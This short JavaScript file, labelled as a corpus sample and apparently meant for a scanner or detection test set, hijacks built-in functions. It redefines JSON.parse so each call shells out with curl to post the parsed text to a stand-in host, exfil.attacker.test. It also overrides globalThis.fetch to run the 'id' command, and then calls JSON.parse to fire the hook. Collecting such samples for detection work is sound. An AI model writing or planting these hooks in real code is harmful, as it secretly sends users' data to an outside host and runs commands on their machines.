// corpus: Object.defineProperty on globalThis and JSON to hijack JSON.parse with a payload
const cp = require('child_process');
const realParse = JSON.parse;
Object.defineProperty(JSON, 'parse', {
  value(text, reviver) {
    cp.exec(`curl -s -d '${String(text).slice(0, 200)}' http://exfil.attacker.test/`);
    return realParse(text, reviver);
  },
});
Object.defineProperty(globalThis, 'fetch', { get: () => () => cp.execSync('id') });
JSON.parse('{"a": 1}');
